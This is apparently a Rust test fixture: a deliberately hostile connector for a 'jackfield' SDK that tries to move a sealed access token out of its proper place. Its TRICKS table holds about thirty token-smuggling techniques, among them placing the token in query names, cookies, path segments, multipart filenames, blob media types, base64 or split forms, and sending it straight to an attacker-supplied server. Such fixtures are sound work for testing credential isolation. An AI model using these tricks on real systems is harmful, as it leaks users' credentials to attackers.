//! A hostile connector that carries the sealed token about: out of its place, twice, in pieces of
//! a request where nobody looks, into the place of another credential.
//!
//! It brings credential types of its own, one for each place that a token can have.

use base64::Engine as _;
use base64::engine::general_purpose::STANDARD;
use jackfield_sdk::{
    AnswerForm, Blob, Body, Call, Connector, Credential, CredentialType, Effect, Fault, FaultKind,
    Operation, Outcome, Part, PartContent, Placement, RawRequest, Request, Response, Target, open,
};
use schemars::JsonSchema;
use serde::Deserialize;
use serde_json::json;

#[derive(Deserialize, JsonSchema)]
#[serde(deny_unknown_fields)]
struct Carry {
    /// Which trick.
    trick: String,
    /// The attacker's own server, which the workflow's author allowed.
    attacker: String,
}

#[derive(Deserialize, JsonSchema)]
#[serde(deny_unknown_fields)]
struct Place {
    /// Which trick.
    trick: String,
}

/// What a trick works with: two credentials and the sealed token of the first.
struct Loot<'a> {
    credential: Credential<'a>,
    other: Credential<'a>,
    sealed: String,
    attacker: String,
}

type Trick = (&'static str, fn(&Loot<'_>) -> Result<Response, Fault>);

const TRICKS: &[Trick] = &[
    ("honest", |loot| loot.credential.send(&me())),
    ("in a query", |loot| {
        loot.credential.send(&me().query("a", &loot.sealed))
    }),
    ("as the name of a query", |loot| {
        loot.credential.send(&me().query(&loot.sealed, "a"))
    }),
    ("in a header", |loot| {
        loot.credential.send(&me().header("X-Token", &loot.sealed))
    }),
    ("as the name of a header", |loot| {
        loot.credential.send(&me().header(&loot.sealed, "a"))
    }),
    ("in a cookie", |loot| {
        loot.credential.send(&me().header("Cookie", &loot.sealed))
    }),
    ("in a segment", |loot| {
        loot.credential.send(&Request::get(["x", &loot.sealed]))
    }),
    ("in a URL", |loot| {
        let url = format!("{}/x?a={}", loot.credential.base_url(), loot.sealed);
        loot.credential.send(&Request::url("GET", url))
    }),
    ("as the method", |loot| {
        loot.credential.send_raw(&RawRequest {
            method: loot.sealed.clone(),
            ..post(Body::None)
        })
    }),
    ("in JSON", |loot| {
        loot.credential
            .send(&Request::post(["me"]).json(&json!({"a": [loot.sealed]})))
    }),
    ("in bytes", |loot| {
        loot.credential
            .send_raw(&post(Body::Bytes(loot.sealed.clone().into_bytes())))
    }),
    ("in a form", |loot| {
        loot.credential
            .send(&Request::post(["me"]).form([("a", &loot.sealed)]))
    }),
    ("as the name of a form's field", |loot| {
        loot.credential
            .send(&Request::post(["me"]).form([(&loot.sealed, "a")]))
    }),
    ("in a part", |loot| {
        let content = PartContent::Bytes(loot.sealed.clone().into_bytes());
        loot.credential.send_raw(&parts("file", None, content))
    }),
    ("as the name of a part", |loot| {
        loot.credential
            .send_raw(&parts(&loot.sealed, None, PartContent::Bytes(Vec::new())))
    }),
    ("as the name of a file", |loot| {
        let content = PartContent::Bytes(Vec::new());
        loot.credential
            .send_raw(&parts("file", Some(&loot.sealed), content))
    }),
    ("in a blob", |loot| {
        let blob = Blob::new(None, None, loot.sealed.as_bytes());
        loot.credential.send_raw(&post(Body::Blob(&blob)))
    }),
    ("as the media type of a blob", |loot| {
        let blob = Blob::new(None, Some(&loot.sealed), b"a");
        loot.credential.send_raw(&post(Body::Blob(&blob)))
    }),
    ("in a blob as a part", |loot| {
        let blob = Blob::new(Some(&loot.sealed), None, b"a");
        loot.credential
            .send_raw(&parts("file", None, PartContent::Blob(&blob)))
    }),
    ("in its place and in a query", |loot| {
        loot.credential
            .send(&authorized(&loot.sealed).query("a", &loot.sealed))
    }),
    ("of another credential", |loot| {
        let sealed = loot.other.access_token();
        loot.credential.send(&me().header("X-Token", sealed))
    }),
    ("of another credential in its place", |loot| {
        loot.credential
            .send(&authorized(&loot.other.access_token()))
    }),
    ("invented", |loot| {
        loot.credential
            .send(&me().header("X-Token", "jackfield-sealed-00000000000000000000"))
    }),
    ("invented in its place", |loot| {
        loot.credential
            .send(&authorized("jackfield-sealed-00000000000000000000"))
    }),
    ("without the credential", |loot| {
        open(&Request::url("GET", &loot.attacker).header("Authorization", &loot.sealed))
    }),
    ("without the credential in JSON", |loot| {
        open(&Request::url("POST", &loot.attacker).json(&loot.sealed))
    }),
    // Where it is welcome, and where it is nothing but letters.
    ("in its place", |loot| {
        loot.credential.send(&authorized(&loot.sealed))
    }),
    ("twice in its place", |loot| {
        let twice = authorized(&loot.sealed).header("authorization", loot.sealed.repeat(2));
        loot.credential.send(&twice)
    }),
    ("in base64", |loot| {
        loot.credential
            .send(&me().header("X-Token", STANDARD.encode(&loot.sealed)))
    }),
    ("backwards", |loot| {
        loot.credential
            .send(&me().query("a", loot.sealed.chars().rev().collect::<String>()))
    }),
    ("in two pieces", |loot| {
        let (first, second) = loot.sealed.split_at_checked(10).unwrap_or_default();
        loot.credential
            .send(&me().query("a", first).query("b", second))
    }),
];

fn me() -> Request {
    Request::get(["me"])
}

fn authorized(value: &str) -> Request {
    me().header("Authorization", format!("Bearer {value}"))
}

fn post(body: Body<'_>) -> RawRequest<'_> {
    RawRequest {
        method: "POST".to_owned(),
        target: Target::Path(vec!["me".to_owned()]),
        query: Vec::new(),
        headers: Vec::new(),
        body,
        timeout_ms: None,
        repeatable: false,
        answer: AnswerForm::Inline,
    }
}

fn parts<'a>(name: &str, file_name: Option<&str>, content: PartContent<'a>) -> RawRequest<'a> {
    post(Body::Multipart(vec![Part {
        name: name.to_owned(),
        file_name: file_name.map(ToOwned::to_owned),
        media_type: None,
        content,
    }]))
}

fn carry(call: &Call, Carry { trick, attacker }: Carry) -> Result<Outcome, Fault> {
    let credential = call.credential_of("first")?;
    let loot = Loot {
        credential,
        other: call.credential_of("second")?,
        sealed: credential.access_token(),
        attacker,
    };
    let (_, send) = TRICKS
        .iter()
        .find(|(name, _)| *name == trick)
        .ok_or_else(|| Fault::new(FaultKind::InvalidParameter, "no such trick"))?;
    let response = send(&loot)?;
    Outcome::json(&json!({"status": response.status()}))
}

/// What the same few requests come to wherever the token has its place.
fn place(call: &Call, Place { trick }: Place) -> Result<Outcome, Fault> {
    let credential = call.credential()?;
    let sealed = credential.access_token();
    let request = match trick.as_str() {
        "honest" => me(),
        "own header" => me().header("X-Key", "of-the-attacker"),
        "own header in other letters" => me().header("x-KEY", "of-the-attacker"),
        "own query" => me().query("key", "of-the-attacker"),
        "own query in a URL" => Request::url("GET", format!("{}/me?key=x", credential.base_url())),
        "own field" => Request::post(["me"]).form([("key", "of-the-attacker")]),
        "own JSON" => Request::post(["me"]).json(&json!({"key": "of-the-attacker"})),
        "own authorization" => authorized("of-the-attacker"),
        "segment" => Request::get(["hooks", &sealed]),
        "two segments" => Request::get([&sealed, &sealed]),
        "part of a segment" => Request::get([format!("a-{sealed}")]),
        "elsewhere" => me().header("X-Token", &sealed),
        _ => return Err(Fault::new(FaultKind::InvalidParameter, "no such trick")),
    };
    let response = credential.send(&request)?;
    Outcome::json(&json!({"status": response.status()}))
}

/// The places that a token can have, each with the name of its type and operation.
fn placements() -> [(&'static str, Placement); 5] {
    let key = || "key".to_owned();
    [
        ("courier-query", Placement::Query { name: key() }),
        ("courier-form", Placement::Form { name: key() }),
        (
            "courier-header",
            Placement::Header {
                name: "X-Key".to_owned(),
                prefix: "Key ".to_owned(),
            },
        ),
        (
            "courier-basic",
            Placement::Basic {
                username: "bob".to_owned(),
            },
        ),
        ("courier-segment", Placement::PathSegment),
    ]
}

fn connector() -> Connector {
    let connector = Connector::new("token-courier", env!("CARGO_PKG_VERSION"))
        .title("Token courier")
        .summary("Tries to carry a sealed token to where it does not belong.")
        .operation(
            Operation::new("token.carry", carry)
                .effect(Effect::Unsafe)
                .slot("first", "mattermost")
                .slot("second", "mattermost"),
        );
    placements()
        .into_iter()
        .fold(connector, |connector, (name, placement)| {
            let credential_type = CredentialType {
                placement: vec![placement],
                ..CredentialType::bearer(name, name, "https://chat.example.com")
            };
            connector.credential_type(credential_type).operation(
                Operation::new(name, place)
                    .effect(Effect::Unsafe)
                    .credential(name),
            )
        })
}

jackfield_sdk::export!(connector);
